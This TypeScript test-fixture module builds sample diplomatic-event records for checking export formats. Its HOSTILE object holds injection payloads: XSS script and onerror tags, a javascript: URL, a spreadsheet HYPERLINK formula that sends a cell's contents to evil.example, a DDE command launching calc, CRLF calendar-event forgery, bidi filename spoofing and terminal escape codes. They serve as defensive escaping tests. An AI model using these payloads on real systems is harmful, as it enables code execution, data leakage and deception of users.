import { analyse } from '../dossier/index.js';
import { reconcile } from '../record/index.js';
import type { EventMention } from '../record/types.js';
import type { ArticleHead, Change, CodedText, Dossier } from '../store/index.js';
import type { RecordView } from './format.js';

/** What somebody might write into an article to be run, to break out of a format, or to deceive whoever reads it. */
export const HOSTILE = {
  script: '<script>alert(1)</script>',
  closing: '</title></textarea>]]>--><img src=x onerror=alert(1)>',
  address: 'javascript:alert(document.domain)',
  formula: '=HYPERLINK("https://evil.example/?"&A1,"open")',
  at: "@SUM(1+9)*cmd|' /C calc'!A0",
  plus: '+1+cmd',
  blankFormula: '  =1+1',
  tab: '\tafter a tab',
  line: 'Lima\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:forged',
  override: 'gnp.\u202eexe\u2066 \u200bhidden\u061c',
  escape: '\u001b]0;owned\u0007\u001b[31mred\u009b2J',
  nul: 'nul\u0000 and \ufffe and \uffff and \u000b',
  halves: 'half \ud83d of a dove and half \udd4a',
  long: 'Ωmega '.repeat(1700),
} as const;

/** An article of our own with mentions at the words given, each mention's other fields set free. */
function told(
  id: string,
  head: Partial<CodedText['article']>,
  text: string,
  mentions: readonly (Partial<EventMention> & { readonly quote: string })[],
): CodedText {
  return {
    article: { id, text, furniture: [], ...head },
    mentions: mentions.map((fields, i) => {
      const start = text.indexOf(fields.quote);
      if (start < 0) throw new Error(`${fields.quote} is not in the text`);
      return {
        id: `${id}-m${i}`,
        article: id,
        act: 'hold',
        polarity: 'asserted',
        actor: ['FRA'],
        recipient: ['GHA'],
        span: [start, start + fields.quote.length],
        episode: 'e1',
        evidence: { act: { span: [start, start + fields.quote.length], rule: 'test:fixture' } },
        coder: 'test',
        ...fields,
      };
    }),
  };
}

const DOVES = '🕊️ Peace 🕊️ on the wing: Ghana’s president was asked to Paris “in May”. 🤝 He accepted.';

/** A plain record: an invitation that is accepted, put off and held; a refusal; a call; one of them told twice. */
export const PLAIN: readonly CodedText[] = [
  told(
    'p1',
    { published: '2019-03-01', outlet: 'The Test', title: 'Asked to Paris', url: 'https://example.org/1?a=1&b=2' },
    DOVES,
    [
      {
        quote: 'Ghana’s president was asked to Paris “in May”',
        act: 'invite',
        format: 'visit',
        venue: 'Paris',
        meeting_date: '2019-05',
        recipient_person: 'Ada Okoro',
      },
      {
        quote: 'He accepted',
        act: 'accept',
        actor: ['GHA'],
        recipient: ['FRA'],
        format: 'visit',
        venue: 'Paris',
        meeting_date: '2019-05',
        attribution: 'Ada Okoro',
      },
    ],
  ),
  told(
    'p2',
    { published: '2019-05-02', outlet: 'Second Paper' },
    'The visit to Paris is put off until 3 to 5 June, the Élysée said, because of a strike.',
    [
      {
        quote: 'The visit to Paris is put off until 3 to 5 June',
        act: 'postpone',
        actor: ['FRA', 'GHA'],
        recipient: [],
        format: 'visit',
        venue: 'Paris',
        meeting_date: '2019-06-03/2019-06-05',
        reason: 'a strike',
        attribution: 'the Élysée',
      },
    ],
  ),
  told('p3', { published: '2019-06-05', outlet: 'The Test' }, 'President Okoro of Ghana ended a visit to Paris.', [
    {
      quote: 'President Okoro of Ghana ended a visit to Paris',
      actor: ['GHA'],
      recipient: ['FRA'],
      format: 'visit',
      venue: 'Paris',
      meeting_date: '2019-06-03/2019-06-05',
      actor_person: 'Ada Okoro',
    },
  ]),
  told(
    'p4',
    { published: '2020-01-10', outlet: 'Second Paper' },
    'Peru will not meet Italy in Lima on 20 January. Italy regretted it. No invitation was sent, Peru said.',
    [
      {
        quote: 'Peru will not meet Italy in Lima on 20 January',
        act: 'cancel',
        actor: ['PER'],
        recipient: ['ITA'],
        format: 'bilateral',
        venue: 'Lima',
        meeting_date: '2020-01-20',
        episode: 'e2',
      },
      {
        quote: 'Italy regretted it',
        act: 'comment',
        stance: 'regret',
        actor: ['ITA'],
        recipient: ['PER'],
        episode: 'e2',
      },
      {
        quote: 'No invitation was sent',
        act: 'invite',
        polarity: 'denied',
        actor: ['PER'],
        recipient: ['ITA'],
        episode: 'e2',
        attribution: 'Peru',
      },
    ],
  ),
  told('p5', { published: '2021-02-01', outlet: 'The Test' }, 'The ministers of Chile and Peru talked by telephone.', [
    {
      quote: 'The ministers of Chile and Peru talked by telephone',
      actor: ['CHL', 'PER'],
      recipient: [],
      format: 'call',
      level: 'minister',
      date: '2021-02-01',
    },
  ]),
];

const MOVED_TEXT =
  'Chile and Bolivia were to talk in Quito on 3 March. The talks are now set for 10 March. They were held on time.';
const talks = { actor: ['BOL', 'CHL'], recipient: [], format: 'talks', venue: 'Quito' } as const;

/** Talks put off from a day to a later one, told article by article. */
export const MOVED: readonly CodedText[] = [
  told('q1', { published: '2022-02-01', outlet: 'The Test' }, MOVED_TEXT, [
    {
      ...talks,
      quote: 'Chile and Bolivia were to talk in Quito on 3 March',
      act: 'schedule',
      meeting_date: '2022-03-03',
    },
  ]),
  told('q2', { published: '2022-02-20', outlet: 'Second Paper' }, `Quito: ${MOVED_TEXT}`, [
    { ...talks, quote: 'were to talk in Quito on 3 March', act: 'schedule', meeting_date: '2022-03-03' },
    { ...talks, quote: 'The talks are now set for 10 March', act: 'postpone', meeting_date: '2022-03-10' },
  ]),
];

const h = HOSTILE;
const LURES = Object.values(h);

/** A record in which every text that others can write is hostile. */
export const HOSTILE_RECORD: readonly CodedText[] = LURES.map((lure, i) => {
  const other = LURES[(i + 1) % LURES.length]!;
  const text = `Okoro ${lure} met Marin 🕊 ${other} in Lima.`;
  const said = { outlet: other, agency: lure, title: lure, url: i % 2 ? h.address : `https://example.org/${lure}` };
  return told(`x${i}${i === 0 ? lure : ''}`, { published: `2019-03-${10 + i}`, ...said }, text, [
    {
      quote: text.slice(0, -1),
      act: i % 2 ? 'schedule' : 'decline',
      actor: ['FRA', `m${lure.slice(0, 60)}`],
      recipient: ['GHA'],
      actor_person: other,
      recipient_person: lure,
      format: 'bilateral',
      venue: lure,
      occasion: other,
      agenda: lure,
      reason: other,
      condition: lure,
      delegate: other,
      emissary: lure,
      attribution: lure,
      outlet: other,
      meeting_date: `2019-04-${10 + i}`,
    },
  ]);
});

/** A view over articles in memory, reconciled as the store does, whatever no database would keep. */
export function viewOver(coded: readonly CodedText[]): RecordView {
  const heads = new Map(
    coded.map(({ article: { text: _, furniture: __, ...head } }): [string, ArticleHead] => [
      head.id,
      { ...head, voice: head.id },
    ]),
  );
  const all: Dossier[] = reconcile(coded).map(({ episode, mentions }) => ({
    episode,
    mentions,
    articles: [...new Set(mentions.map(({ article }) => article))].map((id) => heads.get(id)!),
  }));
  const published = coded.flatMap(({ article }) => article.published ?? []).sort();
  const store = {
    dossiers: async () => all,
    stats: async () => ({ published: [published[0]!, published.at(-1)!] as const }) as never,
  };
  return {
    filter: {},
    async *dossiers() {
      yield* all;
    },
    async *annotated() {
      yield* [...coded].sort((a, b) => (a.article.id < b.article.id ? -1 : 1));
    },
    changes: async () =>
      all
        .map(({ episode: { mentions: _, ...episode } }, i): Change => {
          const at = `2024-02-${String(1 + (i % 28)).padStart(2, '0')}T08:00:00.000Z`;
          return { number: i + 1, at, kind: 'new', episode, after: episode.status };
        })
        .reverse(),
    analyse: (dossier) => analyse(dossier, store),
  };
}

/** All that a format writes of a view, as bytes. */
export async function written(pieces: AsyncIterable<string | Uint8Array>): Promise<Buffer> {
  const all: Buffer[] = [];
  for await (const piece of pieces) all.push(Buffer.from(piece as string));
  return Buffer.concat(all);
}
